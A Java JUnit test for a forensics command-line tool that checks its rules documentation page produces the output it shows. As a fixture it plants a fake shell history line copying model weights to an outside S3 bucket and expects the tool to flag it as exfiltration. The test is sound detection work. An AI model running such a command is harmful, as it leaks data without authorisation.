package dev.offscript.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The page that teaches rules shows what the commands print. */
class RulesPageTest {

  private static final Pattern WORD = Pattern.compile("'([^']*)'|(\\S+)");

  @TempDir private Path directory;

  @Test
  void whatIsTypedAlongComesOut() throws IOException {
    String page =
        Files.readString(Cli.ROOT.resolve("docs/rules/README.md"), StandardCharsets.UTF_8);
    Files.writeString(directory.resolve("weights.yml"), blocks(page, "yaml").get(0));
    Files.createDirectory(directory.resolve("evidence"));
    Files.writeString(
        directory.resolve("evidence/.bash_history"),
        "#1772359260\naws s3 cp model.safetensors s3://drop.example.net/\n");
    Cli.Result report =
        launch("investigate evidence --rules weights.yml --case case1 --format json --quiet");
    assertThat(report.code()).isZero();
    assertThat(report.output()).contains("\"behaviour\": \"exfiltration\"", "\"author\": \"You\"");

    List<String> shown = blocks(page, "console");

    assertThat(shown).hasSizeGreaterThanOrEqualTo(4);
    for (String one : shown) {
      int end = one.indexOf('\n');
      String command = one.substring("$ offscript ".length(), end);
      Cli.Result result = launch(command);
      assertThat(result.code()).as(command).isZero();
      assertThat(result.output().replace(directory + "/", ""))
          .as(command)
          .startsWith(one.substring(end + 1));
    }
  }

  private Cli.Result launch(String command) {
    List<Object> words = new ArrayList<>();
    for (MatchResult word : WORD.matcher(command).results().toList()) {
      String text = word.group(1) == null ? word.group(2) : word.group(1);
      boolean ours = List.of("weights.yml", "evidence", "case1").contains(text);
      words.add(ours ? directory.resolve(text) : text);
    }
    return Cli.launch(words.toArray());
  }

  private static List<String> blocks(String page, String language) {
    return Pattern.compile("```" + language + "\n(.*?)```", Pattern.DOTALL)
        .matcher(page)
        .results()
        .map(block -> block.group(1))
        .toList();
  }
}
